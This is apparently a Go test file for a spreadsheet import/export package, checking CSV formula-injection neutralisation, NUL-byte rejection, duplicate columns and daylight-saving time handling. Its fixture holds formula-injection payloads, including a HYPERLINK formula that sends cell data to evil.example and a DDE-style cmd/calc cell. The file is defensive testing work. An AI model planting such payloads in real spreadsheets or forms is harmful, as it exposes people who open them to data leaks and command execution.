package sheets

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"strings"
	"testing"
	"time"
)

// formulaPeople is a registration export an attacker filled in: names and
// notes that a spreadsheet would run, beside the legitimate values that
// start the same way (a phone number, a negative number).
const formulaPeople = "First Name,Last Name,Email,Phone,Notes,Years\r\n" +
	"\"=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"click\"\")\",Smith,mary@example.com,+44 20 7946 0000,\"+cmd|' /C calc'!A0\",-5\r\n" +
	"@SUM(1+1),-Jones,ken@example.jp,,'=already quoted,+3\r\n" +
	"Ana,Tab,ana@example.org,,\"x\"\"\t=1+1\",2\r\n"

// csvCells reads an export as one map a row, header -> cell as written.
func csvCells(t *testing.T, file []byte) []map[string]string {
	t.Helper()
	records, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(file, []byte("\uFEFF")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var rows []map[string]string
	for _, r := range records[1:] {
		row := map[string]string{}
		for i, h := range records[0] {
			row[h] = r[i]
		}
		rows = append(rows, row)
	}
	return rows
}

func TestExportNeutralisesFormulasAndReadsThemBackExactly(t *testing.T) {
	ctx := context.Background()
	st := openStore(t)
	if _, err := Import(ctx, st, People, strings.NewReader(formulaPeople), Options{FileName: "reg.csv"}); err != nil {
		t.Fatal(err)
	}
	mary := personByKey(t, st, "mary@example.com")
	if !strings.HasPrefix(mary.GivenName, "=HYPERLINK(") || mary.Phone != "+44 20 7946 0000" || mary.Years != "-5" {
		t.Fatalf("imported %q %q %q", mary.GivenName, mary.Phone, mary.Years)
	}
	// A spreadsheet's own way of saying "text": the apostrophe is not part of the value.
	if ken := personByKey(t, st, "ken@example.jp"); ken.Notes != "=already quoted" {
		t.Fatalf("'=already quoted was read as %q", ken.Notes)
	}
	var first bytes.Buffer
	if err := ExportPeople(ctx, st, &first); err != nil {
		t.Fatal(err)
	}
	byEmail := map[string]map[string]string{}
	for _, row := range csvCells(t, first.Bytes()) {
		byEmail[row["email"]] = row
	}
	for _, c := range []struct{ email, col, want string }{
		{"mary@example.com", "given_name", `'=HYPERLINK("http://evil.example/?"&A2,"click")`},
		{"mary@example.com", "phone", "'+44 20 7946 0000"},
		{"mary@example.com", "notes", `'+cmd|' /C calc'!A0`},
		{"mary@example.com", "years", "-5"}, // a number stays a number
		{"ken@example.jp", "given_name", "'@SUM(1+1)"},
		{"ken@example.jp", "family_name", "'-Jones"},
		{"ken@example.jp", "notes", "'=already quoted"},
		{"ken@example.jp", "years", "+3"},
		{"ana@example.org", "notes", "x\"\t=1+1"}, // a formula character inside a cell is harmless
	} {
		if got := byEmail[c.email][c.col]; got != c.want {
			t.Errorf("%s %s written as %q, want %q", c.email, c.col, got, c.want)
		}
	}

	// Our own export, imported into a new database, exports byte for byte the same.
	again := openStore(t)
	if _, err := Import(ctx, again, People, bytes.NewReader(first.Bytes()), Options{FileName: "people.csv"}); err != nil {
		t.Fatal(err)
	}
	if got := personByKey(t, again, "mary@example.com"); got.GivenName != mary.GivenName || got.Phone != mary.Phone || got.Notes != mary.Notes {
		t.Errorf("read back as %q %q %q", got.GivenName, got.Phone, got.Notes)
	}
	var second bytes.Buffer
	if err := ExportPeople(ctx, again, &second); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(first.Bytes(), second.Bytes()) {
		t.Errorf("export -> import -> export changed the file:\n%q\n---\n%q", first.String(), second.String())
	}
}

func TestFormulaInACustomColumnHeader(t *testing.T) {
	ctx := context.Background()
	st := openStore(t)
	file := "Name,Email,=cmd()\r\nMary Smith,mary@example.com,-x\r\n"
	if _, err := Import(ctx, st, People, strings.NewReader(file), Options{}); err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	if err := ExportPeople(ctx, st, &out); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out.String(), ",'=cmd()\r\n") || !strings.Contains(out.String(), ",'-x\r\n") {
		t.Errorf("custom column written raw:\n%s", out.String())
	}
	again := openStore(t)
	if _, err := Import(ctx, again, People, bytes.NewReader(out.Bytes()), Options{}); err != nil {
		t.Fatal(err)
	}
	if got := personByKey(t, again, "mary@example.com").Custom; got["=cmd()"] != "-x" || len(got) != 1 {
		t.Errorf("custom fields read back as %v", got)
	}
}

func TestNULInACellIsRefusedWithLineAndColumn(t *testing.T) {
	ctx := context.Background()
	st := openStore(t)
	importFile(t, st, People, "people_registration.csv")
	before := dump(t, st)
	file := "First Name,Last Name,Email,Notes\r\nAna,García,ana@example.org,fine\r\nBob,Smith,bob@example.org,\"bad\x00note\"\r\n"
	_, err := Import(ctx, st, People, strings.NewReader(file), Options{FileName: "nul.csv"})
	var problems *ProblemsError
	if !errors.As(err, &problems) || len(problems.Problems) != 1 {
		t.Fatalf("err = %v, want one problem", err)
	}
	want := "nul.csv:3:4: column 4 (Notes) holds a NUL byte (\\0), which is not text; remove it in the spreadsheet"
	if got := problems.Problems[0].String(); got != want {
		t.Errorf("problem %q, want %q", got, want)
	}
	if strings.Contains(err.Error(), "bob@example.org") || strings.Contains(err.Error(), "Smith") {
		t.Errorf("the error shows personal data: %v", err)
	}
	if dump(t, st) != before {
		t.Error("a file with a NUL byte changed the database")
	}
	// With --skip-bad the good row goes in and the bad one does not.
	res, err := Import(ctx, st, People, strings.NewReader(file), Options{FileName: "nul.csv", SkipBad: true})
	if err != nil || res.Added != 1 || res.Skipped != 1 {
		t.Fatalf("skip bad: %+v %v", res, err)
	}
	var out bytes.Buffer
	if err := ExportPeople(ctx, st, &out); err != nil {
		t.Fatal(err)
	}
	if bytes.IndexByte(out.Bytes(), 0) >= 0 {
		t.Error("a NUL byte reached the export")
	}
	_, err = Import(ctx, st, People, strings.NewReader("Email,No\x00tes\r\nx@example.org,y\r\n"), Options{FileName: "h.csv"})
	if err == nil || !strings.HasPrefix(err.Error(), "h.csv:1:2: the header of column 2 holds a NUL byte") {
		t.Errorf("NUL in a header: %v", err)
	}
}

func TestDuplicateColumnsAreRefused(t *testing.T) {
	ctx := context.Background()
	for _, c := range []struct{ file, want string }{
		{"Name,email,Phone,E-mail\r\nAna García,ana@example.org,+44 1,ana@example.net\r\n",
			"dup.csv: column 2 (email) and column 4 (E-mail) both fill the field email"},
		{"Name,Email,Email\r\nAna García,ana@example.org,ana@example.net\r\n",
			"dup.csv: column 2 (Email) and column 3 (Email) both fill the field email"},
		{"Email,Dietary,Name,Dietary\r\nana@example.org,vegan,Ana García,halal\r\n",
			"dup.csv: column 2 (Dietary) and column 4 (Dietary) have the same name"},
	} {
		st := openStore(t)
		before := dump(t, st)
		file := c.file
		_, err := Import(ctx, st, People, strings.NewReader(file), Options{FileName: "dup.csv"})
		if err == nil || !strings.HasPrefix(err.Error(), c.want) {
			t.Errorf("err = %v, want %q", err, c.want)
		}
		if dump(t, st) != before {
			t.Errorf("%s: the file changed the database", c.want)
		}
		// The mapping screen still sees the columns, so it can be put right.
		sample, err := Preview(ctx, strings.NewReader(file), People, time.UTC, 5, Options{FileName: "dup.csv"})
		if err == nil || len(sample.Headers) < 3 || len(sample.Rows) != 1 {
			t.Errorf("%s: preview %+v, %v", c.want, sample, err)
		}
	}
	// Choosing in the mapping which column is the e-mail settles it.
	st := openStore(t)
	file := "Name,email,E-mail\r\nAna García,ana@example.org,ana@example.net\r\n"
	if _, err := Import(ctx, st, People, strings.NewReader(file), Options{Mapping: map[int]string{2: ""}}); err != nil {
		t.Fatal(err)
	}
	if p := personByKey(t, st, "ana@example.org"); p.Custom["E-mail"] != "ana@example.net" {
		t.Errorf("custom %v", p.Custom)
	}
}

func TestSessionTimesSayWhichIsWrongAndWhy(t *testing.T) {
	ctx := context.Background()
	st := openStore(t) // Europe/London
	file := "Title,Start,End\r\n" +
		"Offset start,2026-06-10T10:00Z,2026-06-10 11:00\r\n" +
		"Spring gap,2026-03-29 01:30,2026-03-29 03:00\r\n" +
		"Gap end,2026-03-29 00:30,01:15\r\n" +
		"Plain,2026-10-23 12:00,11:00\r\n"
	_, err := Import(ctx, st, Sessions, strings.NewReader(file), Options{FileName: "s.csv"})
	var problems *ProblemsError
	if !errors.As(err, &problems) {
		t.Fatalf("err = %v", err)
	}
	want := []string{
		"s.csv:2:3: end: 2026-06-10 11:00 (Europe/London) is the same time as the start, 2026-06-10T10:00Z (2026-06-10 11:00 in Europe/London); " +
			"the start has an offset and the end has none, so the end is read in the event's zone, Europe/London: write both the same way",
		"s.csv:3:2: start: 01:30 does not exist on 29 March 2026 in Europe/London: the clocks go forward from 01:00 to 02:00",
		"s.csv:4:3: end: 01:15 does not exist on 29 March 2026 in Europe/London: the clocks go forward from 01:00 to 02:00",
		"s.csv:5:3: end: 2026-10-23 11:00 is before the start, 2026-10-23 12:00; a session must end after it starts",
	}
	if got := problemStrings(problems.Problems); strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("problems:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

func TestAmbiguousLocalTimeIsTheFirstOccurrence(t *testing.T) {
	ctx := context.Background()
	st := openStore(t) // Europe/London: 01:00-02:00 on 25 October 2026 happens twice
	file := "Title,Start,End\r\n" +
		"Night owls,2026-10-25 01:30,2026-10-25 01:45\r\n" +
		"Second time round,2026-10-25T01:30+00:00,2026-10-25T01:45+00:00\r\n"
	if _, err := Import(ctx, st, Sessions, strings.NewReader(file), Options{FileName: "s.csv"}); err != nil {
		t.Fatal(err)
	}
	sessions, err := st.Sessions(ctx)
	if err != nil || len(sessions) != 2 {
		t.Fatalf("%d sessions, %v", len(sessions), err)
	}
	for i, want := range []time.Time{time.Date(2026, 10, 25, 0, 30, 0, 0, time.UTC), time.Date(2026, 10, 25, 1, 30, 0, 0, time.UTC)} {
		if !sessions[i].Starts.Equal(want) {
			t.Errorf("%s starts %v, want %v", sessions[i].Title, sessions[i].Starts.UTC(), want)
		}
	}
}
